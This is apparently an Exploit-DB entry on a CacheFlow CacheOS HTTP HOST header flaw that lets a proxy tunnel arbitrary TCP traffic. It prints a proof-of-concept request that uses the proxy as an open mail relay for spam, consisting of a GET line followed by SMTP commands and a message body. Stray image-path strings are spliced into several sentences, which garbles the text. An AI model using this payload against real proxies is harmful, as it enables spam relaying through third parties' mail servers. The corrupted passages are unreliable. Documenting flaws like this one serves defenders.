CacheFlow CacheOS 4.1.10016 HTTP HOST Proxy Vulnerability

ID EDB-ID:23137
Type exploitdb
Reporter Tim Kennedy
Modified2003-09-10T00:00:00


CacheFlow CacheOS 4.1.10016 HTTP HOST Proxy Vulnerability. Remote exploitsfor multiple platform


Malicious HTTP HOST header field can be used on CacheOS to tunnel arbitrary TCP connections through a HTTP request.

It has been reported that CacheFlow CacheOS may allow the misuse of the HOST header value. This may provide for the use of an internal mail server as an open relay for thepurposes of sending unsolicited mass email.

GET / HTTP/1.1
mail from:
rcpt to:
Subject: Look Ma! I'm an openrelay
HI, you've been spammed through an open proxy, because of a bug in theOS code. Have a Great Day!